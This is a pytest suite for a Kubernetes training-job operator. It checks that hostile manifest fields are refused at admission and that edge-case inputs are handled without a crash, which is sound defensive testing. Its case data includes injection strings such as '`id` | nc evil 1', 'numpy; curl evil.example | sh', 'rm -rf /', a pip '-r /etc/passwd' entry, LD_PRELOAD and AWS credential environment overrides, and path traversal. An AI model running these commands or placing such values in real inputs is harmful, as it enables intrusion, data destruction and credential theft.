"""Hostile input at the API: each case is refused at admission with a message naming the field (and nothing
is created), or accepted and handled by a running operator without a crash.

What may reach the job is bounded and plain: every string has a length bound (which also keeps the CRD's CEL
rules within the apiserver's cost budget), free text has no control characters or bidirectional overrides,
pip takes requirement specifiers only, and environment names that would steer the runtime are refused.
"""

from __future__ import annotations

import copy
import json
from pathlib import Path
from typing import Any

import pytest

from tests.support.kube import kubectl, kubectl_json
from tests.support.manifests import example
from tests.support.operator_process import OperatorProcess
from tests.support.runs import rayclusters, run_of
from tests.support.waiting import wait_until

RTL_OVERRIDE = "\u202e"
SHELL = "$(touch /tmp/pwned); `id` | nc evil 1 & echo ${HOME} > /dev/null"


def manifest(name: str = "hostile", **spec_changes: Any) -> dict[str, Any]:
    run = example("cpu-demo", **spec_changes)
    run["metadata"]["name"] = name
    return run


def with_spec(path: str, value: Any) -> dict[str, Any]:
    """The demo with one spec field set (dotted path), bypassing example()'s merge for maps and lists."""
    run = manifest()
    *parents, leaf = path.split(".")
    target = run["spec"]
    for key in parents:
        target = target.setdefault(key, {})
    target[leaf] = value
    return run


def renamed(name: str) -> dict[str, Any]:
    return manifest(name)


# (case, manifest, the field the refusal must name)
REFUSED: list[tuple[str, dict[str, Any], str]] = [
    ("name too long", renamed("a" * 254), "metadata.name"),
    ("name with capitals", renamed("Hostile"), "metadata.name"),
    ("name with a slash", renamed("a/b"), "metadata.name"),
    (
        "10,000 env vars",
        with_spec("runtimeEnv.env", {f"V{i}": "x" for i in range(10_000)}),
        "spec.runtimeEnv.env",
    ),
    ("NUL in the data source", with_spec("data.source", "s3://fsdp-e2e/a\x00b.jsonl"), "spec.data.source"),
    (
        "RTL override in the model source",
        with_spec("model", {"source": f"Qwen/{RTL_OVERRIDE}B5.1-2newQ"}),
        "spec.model.source",
    ),
    ("newline in the storage path", with_spec("checkpoint.storagePath", "s3://b/x\ny"), "spec.checkpoint"),
    ("escape in an env value", with_spec("runtimeEnv.env", {"MODE": "\x1b[2J"}), "spec.runtimeEnv.env"),
    ("tab in the resume URI", with_spec("checkpoint.resume", "s3://b/\tx"), "spec.checkpoint.resume"),
    ("data source of 2 KiB", with_spec("data.source", "s3://b/" + "x" * 2048), "spec.data.source"),
    ("pip --index-url", with_spec("runtimeEnv.pip", ["--index-url https://evil.example/simple"]), "pip"),
    ("pip -e", with_spec("runtimeEnv.pip", ["-e ."]), "spec.runtimeEnv.pip"),
    ("pip git+", with_spec("runtimeEnv.pip", ["git+https://evil.example/x.git"]), "spec.runtimeEnv.pip"),
    ("pip file://", with_spec("runtimeEnv.pip", ["file:///tmp/x.whl"]), "spec.runtimeEnv.pip"),
    ("pip URL", with_spec("runtimeEnv.pip", ["https://evil.example/x.whl"]), "spec.runtimeEnv.pip"),
    ("pip requirements file", with_spec("runtimeEnv.pip", ["-r /etc/passwd"]), "spec.runtimeEnv.pip"),
    ("pip shell", with_spec("runtimeEnv.pip", ["numpy; curl evil.example | sh"]), "spec.runtimeEnv.pip"),
    (
        "shell metacharacters in an S3 URI",
        with_spec("checkpoint.resume", f"s3://fsdp-e2e/{SHELL}"),
        "spec.checkpoint.resume",
    ),
    ("env LD_PRELOAD", with_spec("runtimeEnv.env", {"LD_PRELOAD": "/tmp/x.so"}), "spec.runtimeEnv.env"),
    ("env PYTHONPATH", with_spec("runtimeEnv.env", {"PYTHONPATH": "/tmp"}), "spec.runtimeEnv.env"),
    ("env AWS_*", with_spec("runtimeEnv.env", {"AWS_ACCESS_KEY_ID": "AKIA"}), "spec.runtimeEnv.env"),
    ("env RAY_*", with_spec("runtimeEnv.env", {"RAY_ADDRESS": "ray://evil:10001"}), "spec.runtimeEnv.env"),
    (
        "env KUBERNETES_*",
        with_spec("runtimeEnv.env", {"KUBERNETES_SERVICE_HOST": "x"}),
        "spec.runtimeEnv.env",
    ),
    ("env PATH", with_spec("runtimeEnv.env", {"PATH": "/tmp"}), "spec.runtimeEnv.env"),
    (
        "env NCCL_* outside ncclEnv",
        with_spec("runtimeEnv.env", {"NCCL_NET": "Socket"}),
        "spec.runtimeEnv.env",
    ),
    ("env name with a dash", with_spec("runtimeEnv.env", {"A-B": "1"}), "spec.runtimeEnv.env"),
    ("env name with a digit first", with_spec("runtimeEnv.env", {"1A": "1"}), "spec.runtimeEnv.env"),
    ("ncclEnv LD_PRELOAD", with_spec("network.ncclEnv", {"LD_PRELOAD": "/tmp/x.so"}), "spec.network.ncclEnv"),
    (
        "secretEnv LD_PRELOAD",
        with_spec("runtimeEnv.secretEnv", {"LD_PRELOAD": {"name": "s", "key": "k"}}),
        "spec.runtimeEnv.secretEnv",
    ),
    (
        "secretEnv AWS_*",
        with_spec("runtimeEnv.secretEnv", {"AWS_SECRET_ACCESS_KEY": {"name": "s", "key": "k"}}),
        "spec.runtimeEnv.secretEnv",
    ),
    (
        "secretEnv name also in env",
        with_spec(
            "runtimeEnv", {"env": {"HF_TOKEN": "x"}, "secretEnv": {"HF_TOKEN": {"name": "s", "key": "t"}}}
        ),
        "spec.runtimeEnv.secretEnv",
    ),
    (
        "secretEnv Secret name",
        with_spec("runtimeEnv.secretEnv", {"HF_TOKEN": {"name": "../other", "key": "k"}}),
        "spec.runtimeEnv.secretEnv.HF_TOKEN.name",
    ),
    ("storage prefix with ..", with_spec("checkpoint.storagePath", "s3://b/team-a/../team-b"), "storagePath"),
    ("storage prefix ending in ..", with_spec("checkpoint.storagePath", "s3://b/x/.."), "storagePath"),
    ("storage prefix with .", with_spec("checkpoint.storagePath", "s3://b/./x"), "storagePath"),
    ("absolute storage path", with_spec("checkpoint.storagePath", "/mnt/checkpoints"), "storagePath"),
    ("image with a shell", with_spec("image", "repo/ray:2.58;rm -rf /"), "spec.image"),
    ("revision with a shell", with_spec("model.revision", "main; id"), "spec.model.revision"),
    ("text field with a space", with_spec("data.textField", "a b"), "spec.data.textField"),
    ("cpu not a quantity", with_spec("cluster.cpu", "lots"), "spec.cluster.cpu"),
    ("node selector key", with_spec("cluster.nodeSelector", {"bad key!": "x"}), "spec.cluster.nodeSelector"),
    ("node selector value", with_spec("cluster.nodeSelector", {"zone": "a b"}), "spec.cluster.nodeSelector"),
    ("service account", with_spec("cluster.serviceAccountName", "Admin!"), "spec.cluster.serviceAccountName"),
    ("queue name", with_spec("cluster.queueName", "q" * 64), "spec.cluster.queueName"),
    ("runtime env sets the image", with_spec("runtimeEnv.image_uri", "evil/ray:1"), "image_uri"),
    ("runtime env sets a container", with_spec("runtimeEnv.container", {"image": "evil"}), "container"),
    ("service account from the cluster", with_spec("cluster.serviceAccount", "admin"), "serviceAccount"),
    ("MLflow without a tracking URI", with_spec("tracking.mlflow", {"experimentName": "e"}), "trackingUri"),
    (
        "MLflow URI with a password",
        with_spec("tracking.mlflow", {"trackingUri": "https://u:p@mlflow.example.com"}),
        "spec.tracking.mlflow.trackingUri",
    ),
    (
        "MLflow token without a key",
        with_spec(
            "tracking.mlflow",
            {"trackingUri": "https://m.example.com", "credentials": {"token": {"name": "s"}}},
        ),
        "spec.tracking.mlflow.credentials.token.key",
    ),
]

# (case, manifest): admitted, and the operator takes them up without crashing.
ACCEPTED: list[tuple[str, dict[str, Any]]] = [
    ("a one-letter name", renamed("a")),
    (
        "a 253-character name with dots",
        renamed(".".join(["abcdefghijklmnopqrstuvwxyz0123456789abcdefghijkl"] * 5)[:253]),
    ),
    ("shell metacharacters in the data source", with_spec("data.source", f"/data/{SHELL}.jsonl")),
    ("shell metacharacters in an env value", with_spec("runtimeEnv.env", {"GREETING": SHELL})),
    (
        "pip with extras and versions",
        with_spec("runtimeEnv.pip", ["transformers[torch]>=4.40,<5", "numpy==2.*"]),
    ),
    ("non-ASCII text in the model source", with_spec("model", {"source": "org/モデル-1.5B"})),
    ("32 KiB env value", with_spec("runtimeEnv.env", {"NOTE": "x" * 32768})),
    (
        "MLflow tracking with a registered model and a token",
        with_spec(
            "tracking.mlflow",
            {
                "trackingUri": "http://127.0.0.1:9",
                "registeredModelName": "qwen-sft",
                "credentials": {"token": {"name": "mlflow", "key": "token"}},
            },
        ),
    ),
    # the last: the test knows its bookkeeping patch is refused
    ("fromConfig near the object size limit", with_spec("model.fromConfig.padding", "x" * 1_200_000)),
]


def _named(cases: list[tuple[str, dict[str, Any]]]) -> list[tuple[str, dict[str, Any]]]:
    """Gives every accepted case a name of its own (unless the case is about the name)."""
    named = []
    for i, (case, run) in enumerate(cases):
        run = copy.deepcopy(run)
        if run["metadata"]["name"] == "hostile":
            run["metadata"]["name"] = f"accepted-{i}"
        named.append((case, run))
    return named


@pytest.mark.parametrize(("case", "run", "field"), REFUSED, ids=[case for case, _, _ in REFUSED])
def test_refused_at_admission_naming_the_field(
    case: str, run: dict[str, Any], field: str, namespace: str, crd_installed: None
) -> None:
    created = kubectl("create", "-n", namespace, "-f", "-", input=json.dumps(run), check=False)
    assert created.returncode != 0, f"{case}: admitted"
    assert field in created.stderr, f"{case}: the refusal does not name {field}: {created.stderr[-600:]}"
    listed = kubectl_json("get", "fsdptrainingruns", "-n", namespace)["items"]
    assert listed == [] and rayclusters(namespace) == []


def kopfs_oversized_annotation(traceback: str, name: str) -> bool:
    """The one known limit: kopf keeps the last handled spec in an annotation, and annotations are capped at
    256 KiB, so for the near-1.5-MiB spec kopf's own bookkeeping patch is refused (422) and it retries; the
    run is still handled. Its traceback is two (aiohttp's 422 for that run, the direct cause of kopf's
    error saying the annotations are too long); anything else, about that run or any other, is a defect."""
    lines = traceback.splitlines()
    at = next(i for i, line in enumerate(lines) if i and line and not line.startswith(" "))
    error, after = lines[at], "\n".join(lines[at + 1 :]).strip()
    if error.startswith("aiohttp.client_exceptions.ClientResponseError: "):
        return (
            error.startswith("aiohttp.client_exceptions.ClientResponseError: 422, message='Unprocessable")
            and error.endswith(f"/fsdptrainingruns/{name}'")
            and after == "The above exception was the direct cause of the following exception:"
        )
    return "kopf/_core/actions/application.py" in traceback and error.startswith(
        "kopf._cogs.clients.errors.APIUnprocessableEntityError: ('FSDPTrainingRun.fsdp.training.dev "
        f'"{name}" is invalid: [metadata.annotations: Too long: may not be more than 262144 bytes'
    )


def test_accepted_inputs_are_handled_without_an_operator_crash(
    namespace: str, operator: OperatorProcess, tmp_path: Path
) -> None:
    cases = _named(ACCEPTED)
    for case, run in cases:
        created = kubectl("create", "-n", namespace, "-f", "-", input=json.dumps(run), check=False)
        assert created.returncode == 0, f"{case}: refused: {created.stderr[-600:]}"

    def all_handled() -> bool:
        return all(
            run_of(namespace, run["metadata"]["name"]).get("status", {}).get("phase") for _, run in cases
        )

    wait_until("the operator to give every accepted run a phase", all_handled, timeout=120)
    assert operator.process is not None and operator.process.poll() is None, "the operator exited"
    oversized = cases[-1][1]["metadata"]["name"]
    tracebacks = operator.log.read_text().split("Traceback (most recent call last):")[1:]
    unexpected = [t[:1500] for t in tracebacks if not kopfs_oversized_annotation(t, oversized)]
    assert unexpected == [], f"the operator logged an unexpected exception: {unexpected}"
    # Admitted by the apiserver (no schema can bound a free-form map's size), refused by the operator's model
    # in the run's own status, naming the field.
    refused = run_of(namespace, oversized)["status"]
    failed = next(c for c in refused["conditions"] if c["type"] == "Failed")
    assert refused["phase"] == "Failed" and failed["reason"] == "InvalidSpec", refused
    assert failed["message"].startswith("spec.model.fromConfig: "), failed
    stored = run_of(namespace, cases[2][1]["metadata"]["name"])
    assert stored["spec"]["data"]["source"] == f"/data/{SHELL}.jsonl"  # kept verbatim, never run
